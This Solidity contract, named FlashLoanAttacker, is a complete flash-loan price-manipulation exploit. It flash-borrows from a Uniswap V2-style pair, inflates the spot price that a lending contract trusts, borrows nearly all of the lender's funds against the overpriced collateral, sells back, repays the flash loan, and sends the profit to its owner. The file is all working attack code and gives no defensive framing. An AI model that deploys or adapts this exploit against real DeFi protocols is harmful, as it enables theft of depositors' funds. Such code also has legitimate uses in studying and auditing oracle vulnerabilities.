// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IAttackToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IAttackPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
}

interface IAttackLender {
    function deposit(uint256) external;
    function borrow(uint256) external;
    function valueOf(uint256) external view returns (uint256);
}

/// Empties a Lender in one transaction: flash-borrow, lift the spot price, borrow against it, sell back, repay, keep the rest.
contract FlashLoanAttacker {
    struct Plan {
        IAttackPair source; // where the flash swap comes from
        IAttackPair pair; // whose spot price the lender trusts
        IAttackLender lender;
        IAttackToken cash; // what is flash-borrowed and what the lender lends
        IAttackToken collateral;
        uint256 amount; // flash-borrowed
    }

    address private immutable owner = msg.sender;

    function drain(Plan calldata plan) external {
        bool first = plan.source.token0() == address(plan.cash);
        plan.source.swap(first ? plan.amount : 0, first ? 0 : plan.amount, address(this), abi.encode(plan));
        plan.cash.transfer(owner, plan.cash.balanceOf(address(this)));
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata data) external {
        Plan memory plan = abi.decode(data, (Plan));
        require(msg.sender == address(plan.source));
        _swap(plan.pair, plan.cash, plan.amount);
        _borrowAll(plan);
        _swap(plan.pair, plan.collateral, plan.collateral.balanceOf(address(this)));
        plan.cash.transfer(address(plan.source), plan.amount + (plan.amount * 3) / 997 + 1);
    }

    function _borrowAll(Plan memory plan) private {
        uint256 loan = (plan.cash.balanceOf(address(plan.lender)) * 99) / 100;
        uint256 needed = ((loan * 100) / 75) * 1e18 / plan.lender.valueOf(1e18) + 1e12;
        plan.collateral.approve(address(plan.lender), needed);
        plan.lender.deposit(needed);
        plan.lender.borrow(loan);
    }

    function _swap(IAttackPair pair, IAttackToken token, uint256 amount) private {
        (uint112 reserve0, uint112 reserve1, ) = pair.getReserves();
        bool first = pair.token0() == address(token);
        (uint256 into, uint256 from) = first ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 out = (amount * 997 * from) / (into * 1000 + amount * 997);
        token.transfer(address(pair), amount);
        pair.swap(first ? 0 : out, first ? out : 0, address(this), "");
    }
}
